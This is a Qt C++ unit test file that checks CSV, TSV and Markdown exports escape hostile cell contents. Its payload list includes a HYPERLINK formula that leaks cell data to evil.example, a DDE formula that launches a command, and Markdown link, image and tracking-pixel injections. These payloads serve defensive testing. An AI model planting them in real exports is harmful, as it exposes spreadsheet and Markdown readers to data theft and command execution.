// Issue 14, "exports are safe to open": every export path (the triage log's
// CSV file, Markdown file and "Copy as Markdown"; the Bots table's Ctrl+C as
// TSV and its "Copy as Markdown") writes its cells through
// models/text/ExportFormat, so
//
// - a cell that starts with =, +, -, @, a tab or a carriage return opens as
//   text in Excel and LibreOffice (a leading '), and
// - a Markdown cell cannot become a link, an image, raw HTML (a tracking
//   pixel), a mention or a new row: the exported table is rendered with Qt's
//   own CommonMark/GitHub reader (md4c) and searched for anchors and images.
//
// Before issue 14 the CSV and TSV cells were written as they came and the
// Markdown escaped only | and line breaks.

#include "models/bots/BotStore.h"
#include "models/bots/BotTableModel.h"
#include "models/text/ExportFormat.h"
#include "models/triage/TriageLog.h"
#include "models/triage/TriageLogModel.h"
#include "views/bots/BotTableView.h"
#include "views/triage/TriageLogPage.h"

#include <QApplication>
#include <QClipboard>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>
#include <QTextBlock>
#include <QTextDocument>
#include <QTextFragment>
#include <QTextTable>

namespace {

QStringList hostileCells()
{
    return {
        QStringLiteral("=HYPERLINK(\"https://evil.example/?\"&B2,\"x\")"),
        QStringLiteral("+1"),
        QStringLiteral("-2"),
        QStringLiteral("@SUM(A1)"),
        QStringLiteral("\t=1+1"),
        QStringLiteral("\r=1+1"),
        QStringLiteral("=cmd|' /C calc'!A0"),
        QStringLiteral("[click](https://evil.example)"),
        QStringLiteral("![x](https://evil.example/p.png)"),
        QStringLiteral("<img src=\"https://evil.example/pixel.png\">"),
        QStringLiteral("<b>Guild</b>"),
        QStringLiteral("<@everyone>"),
        QStringLiteral("*bold* _it_ | pipe"),
        QStringLiteral("`code` ~~strike~~"),
        QStringLiteral("line one\nline two\r\n| --- |"),
        QStringLiteral("https://evil.example/bare"),
        QStringLiteral("www.evil.example"),
        QStringLiteral("&lt;script&gt; &#60;b&#62;"),
        QStringLiteral("\\[not](escaped)"),
        QStringLiteral("acme_live"),
    };
}

bool isFormulaStart(const QString &cell)
{
    return !cell.isEmpty()
        && QStringView(u"=+-@\t\r").contains(cell.front());
}

// RFC 4180, as a spreadsheet reads it.
QList<QStringList> parseCsv(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString cell;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == QLatin1Char('"')) {
                if (i + 1 < text.size() && text.at(i + 1) == QLatin1Char('"')) {
                    cell.append(c);
                    ++i;
                } else {
                    quoted = false;
                }
            } else {
                cell.append(c);
            }
        } else if (c == QLatin1Char('"') && cell.isEmpty()) {
            quoted = true;
        } else if (c == QLatin1Char(',')) {
            row.append(cell);
            cell.clear();
        } else if (c == QLatin1Char('\r') && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            row.append(cell);
            rows.append(row);
            row.clear();
            cell.clear();
            ++i;
        } else {
            cell.append(c);
        }
    }
    return rows;
}

struct MarkdownReading
{
    int anchors = 0;
    int images = 0;
    int tables = 0;
    int rows = 0;
    int columns = 0;
    QString text;
};

// What a Markdown viewer makes of it: Qt's md4c reader, GitHub dialect
// (tables, autolinks, raw HTML).
MarkdownReading readMarkdown(const QString &markdown)
{
    QTextDocument doc;
    doc.setMarkdown(markdown, QTextDocument::MarkdownDialectGitHub);
    MarkdownReading r;
    r.text = doc.toPlainText();
    for (QTextBlock b = doc.begin(); b.isValid(); b = b.next()) {
        for (auto it = b.begin(); !it.atEnd(); ++it) {
            const QTextFragment f = it.fragment();
            if (f.charFormat().isAnchor() || !f.charFormat().anchorHref().isEmpty())
                ++r.anchors;
            if (f.charFormat().isImageFormat())
                ++r.images;
        }
    }
    for (QTextFrame *frame : doc.rootFrame()->childFrames()) {
        if (auto *table = qobject_cast<QTextTable *>(frame)) {
            ++r.tables;
            r.rows = table->rows();
            r.columns = table->columns();
        }
    }
    return r;
}

TriageEntry entry(const QString &name, const QString &message)
{
    TriageEntry e;
    e.kind = QStringLiteral("bot");
    e.accountId = QStringLiteral("00000000-0000-4000-8000-000000000001");
    e.accountName = name;
    e.platform = QStringLiteral("TWITCH");
    e.action = TriageAction::pause();
    e.origin = TriageOrigin::single();
    e.result = TriageEntry::Result::Failed;
    e.serverMessage = message;
    return e;
}

} // namespace

class TestExportCells final : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;

private Q_SLOTS:
    void defused_formulaStartsGetAQuote_data();
    void defused_formulaStartsGetAQuote();
    void csvAndTsv_cellsReadBackAsText();
    void markdownCell_escapesEverythingMarkdownInterprets_data();
    void markdownCell_escapesEverythingMarkdownInterprets();
    void markdownTable_rendersNoLinkImageOrExtraCell();
    void triageExport_csvAndMarkdownFilesAndClipboard();
    void botTable_copyAsTsvAndMarkdown();
};

void TestExportCells::defused_formulaStartsGetAQuote_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<QString>("defused");
    QTest::newRow("=") << QStringLiteral("=HYPERLINK(\"https://evil/?\"&B2,\"x\")")
                       << QStringLiteral("'=HYPERLINK(\"https://evil/?\"&B2,\"x\")");
    QTest::newRow("+") << QStringLiteral("+1") << QStringLiteral("'+1");
    QTest::newRow("-") << QStringLiteral("-2") << QStringLiteral("'-2");
    QTest::newRow("@") << QStringLiteral("@SUM(A1)") << QStringLiteral("'@SUM(A1)");
    QTest::newRow("tab") << QStringLiteral("\t=1") << QStringLiteral("'\t=1");
    QTest::newRow("CR") << QStringLiteral("\r=1") << QStringLiteral("'\r=1");
    QTest::newRow("plain") << QStringLiteral("acme_live") << QStringLiteral("acme_live");
    QTest::newRow("inner =") << QStringLiteral("a=b") << QStringLiteral("a=b");
    QTest::newRow("empty") << QString() << QString();
}

void TestExportCells::defused_formulaStartsGetAQuote()
{
    QFETCH(QString, cell);
    QFETCH(QString, defused);
    QCOMPARE(ExportFormat::defused(cell), defused);
}

void TestExportCells::csvAndTsv_cellsReadBackAsText()
{
    QList<QStringList> rows {{QStringLiteral("Account"), QStringLiteral("Message")}};
    for (const QString &c : hostileCells())
        rows.append({c, QStringLiteral("x,\"y\"")});
    const QList<QStringList> back = parseCsv(ExportFormat::csv(rows));
    QCOMPARE(back.size(), rows.size());
    for (int r = 1; r < rows.size(); ++r) {
        QCOMPARE(back.at(r).size(), 2);
        const QString cell = back.at(r).at(0);
        QVERIFY2(!isFormulaStart(cell), qPrintable(cell));
        // Faithful: the quote is the only change.
        QCOMPARE(isFormulaStart(rows.at(r).at(0)) ? cell.mid(1) : cell, rows.at(r).at(0));
        QCOMPARE(back.at(r).at(1), QStringLiteral("x,\"y\""));
    }
    const QStringList lines = ExportFormat::tsv(rows).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), rows.size()); // no cell broke a line
    for (const QString &line : lines) {
        const QStringList cells = line.split(QLatin1Char('\t'));
        QCOMPARE(cells.size(), 2); // no cell added a column
        QVERIFY2(!isFormulaStart(cells.at(0)), qPrintable(cells.at(0)));
    }
}

void TestExportCells::markdownCell_escapesEverythingMarkdownInterprets_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<QString>("escaped");
    QTest::newRow("link") << QStringLiteral("[click](https://evil.example)")
                          << QStringLiteral("\\[click\\]\\(https\\://evil.example\\)");
    QTest::newRow("image") << QStringLiteral("![x](y)") << QStringLiteral("\\!\\[x\\]\\(y\\)");
    QTest::newRow("html") << QStringLiteral("<img src=a>") << QStringLiteral("\\<img src=a\\>");
    QTest::newRow("emphasis") << QStringLiteral("*b* _i_ `c` ~s~")
                              << QStringLiteral("\\*b\\* \\_i\\_ \\`c\\` \\~s\\~");
    QTest::newRow("pipe") << QStringLiteral("a|b") << QStringLiteral("a\\|b");
    QTest::newRow("mention") << QStringLiteral("<@everyone> #123 @all")
                             << QStringLiteral("\\<\\@everyone\\> \\#123 \\@all");
    QTest::newRow("entity") << QStringLiteral("&lt;") << QStringLiteral("\\&lt;");
    QTest::newRow("backslash") << QStringLiteral("a\\b") << QStringLiteral("a\\\\b");
    QTest::newRow("line breaks") << QStringLiteral("one\r\ntwo\nthree\rfour")
                                 << QStringLiteral("one<br/>two<br/>three<br/>four");
    QTest::newRow("www") << QStringLiteral("www.evil.example") << QStringLiteral("www\\.evil.example");
    QTest::newRow("plain") << QStringLiteral("2023-11-14T22:13:20Z acme_live")
                           << QStringLiteral("2023-11-14T22:13:20Z acme\\_live");
}

void TestExportCells::markdownCell_escapesEverythingMarkdownInterprets()
{
    QFETCH(QString, cell);
    QFETCH(QString, escaped);
    QCOMPARE(ExportFormat::markdownCell(cell), escaped);
}

void TestExportCells::markdownTable_rendersNoLinkImageOrExtraCell()
{
    QList<QStringList> rows {{QStringLiteral("Account"), QStringLiteral("Message")}};
    for (const QString &c : hostileCells())
        rows.append({c, c});
    const MarkdownReading read = readMarkdown(ExportFormat::markdownTable(rows));
    QCOMPARE(read.tables, 1);
    QCOMPARE(read.rows, int(rows.size()));
    QCOMPARE(read.columns, 2);
    QCOMPARE(read.anchors, 0);
    QCOMPARE(read.images, 0);
    // The names read as themselves.
    for (const QString &name : {QStringLiteral("[click](https://evil.example)"),
                                QStringLiteral("<img src=\"https://evil.example/pixel.png\">"),
                                QStringLiteral("<b>Guild</b>"), QStringLiteral("<@everyone>"),
                                QStringLiteral("*bold* _it_ | pipe")})
        QVERIFY2(read.text.contains(name), qPrintable(name + QLatin1String(" in ") + read.text));

    // The check can fail: the same table without escaping has links and images.
    QString raw = QStringLiteral("| a | b |\n| --- | --- |\n");
    for (const QString &c : hostileCells())
        raw += QStringLiteral("| %1 | x |\n").arg(QString(c).replace(QLatin1Char('\n'), u' '));
    const MarkdownReading unsafe = readMarkdown(raw);
    QVERIFY(unsafe.anchors > 0);
    QVERIFY(unsafe.images > 0);
}

void TestExportCells::triageExport_csvAndMarkdownFilesAndClipboard()
{
    TriageLog log;
    QVERIFY(log.open(m_dir.filePath(QStringLiteral("triage.sqlite"))));
    log.setProfile(QStringLiteral("=Prod"));
    for (const QString &c : hostileCells())
        QVERIFY(log.append(entry(c, c)) > 0);
    TriageLogPage page(&log);
    QString target;
    page.setSaveFileChooser([&target](QWidget *, const QString &, const QString &, const QString &) {
        return target;
    });
    QTRY_COMPARE(page.model()->rowCount(), int(hostileCells().size()));

    // CSV, as a spreadsheet opens it.
    target = m_dir.filePath(QStringLiteral("triage.csv"));
    QVERIFY(page.exportCsv());
    QFile csv(target);
    QVERIFY(csv.open(QIODevice::ReadOnly));
    const QList<QStringList> rows = parseCsv(QString::fromUtf8(csv.readAll()));
    QCOMPARE(rows.size(), hostileCells().size() + 1);
    int defusedCells = 0;
    for (const QStringList &row : rows) {
        for (const QString &cell : row) {
            QVERIFY2(!isFormulaStart(cell), qPrintable(cell));
            defusedCells += cell.startsWith(QLatin1Char('\'')) ? 1 : 0;
        }
    }
    // Profile, name and message of the six formula rows, and the profile of the rest.
    QVERIFY2(defusedCells >= 6 * 2 + int(hostileCells().size()), qPrintable(QString::number(defusedCells)));

    // Markdown file and clipboard: one table, no link, no image.
    target = m_dir.filePath(QStringLiteral("triage.md"));
    QVERIFY(page.exportMarkdown());
    QFile md(target);
    QVERIFY(md.open(QIODevice::ReadOnly));
    const QString markdown = QString::fromUtf8(md.readAll());
    for (const QString &text : {markdown, [&page] {
                                    page.copyMarkdown();
                                    return QApplication::clipboard()->text();
                                }()}) {
        const MarkdownReading read = readMarkdown(text);
        QCOMPARE(read.tables, 1);
        QCOMPARE(read.rows, int(hostileCells().size()) + 1);
        QCOMPARE(read.anchors, 0);
        QCOMPARE(read.images, 0);
    }
}

void TestExportCells::botTable_copyAsTsvAndMarkdown()
{
    BotStore store;
    QList<BotStatusEntry> page;
    int n = 0;
    for (const QString &c : hostileCells()) {
        BotStatusEntry e;
        e.accountId =
            QStringLiteral("00000000-0000-4000-8000-%1").arg(++n, 12, 10, QLatin1Char('0'));
        e.accountName = c;
        e.platform = Platform::Kick;
        e.status = BotStatus::Active;
        e.updatedAt = 1;
        page.append(e);
    }
    store.mergeSnapshot(page);
    store.flush();
    BotTableModel model(&store);
    BotTableView view(&model);
    view.selectAll();
    const QString tsv = view.selectionAsTsv();
    const QStringList lines = tsv.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), hostileCells().size() + 1);
    for (const QString &line : lines) {
        const QStringList cells = line.split(QLatin1Char('\t'));
        QCOMPARE(cells.size(), 5);
        for (const QString &cell : cells)
            QVERIFY2(!isFormulaStart(cell), qPrintable(cell));
    }
    const MarkdownReading read = readMarkdown(view.selectionAsMarkdown());
    QCOMPARE(read.tables, 1);
    QCOMPARE(read.rows, int(hostileCells().size()) + 1);
    QCOMPARE(read.columns, 5);
    QCOMPARE(read.anchors, 0);
    QCOMPARE(read.images, 0);
}

QTEST_MAIN(TestExportCells)
#include "TestExportCells.moc"
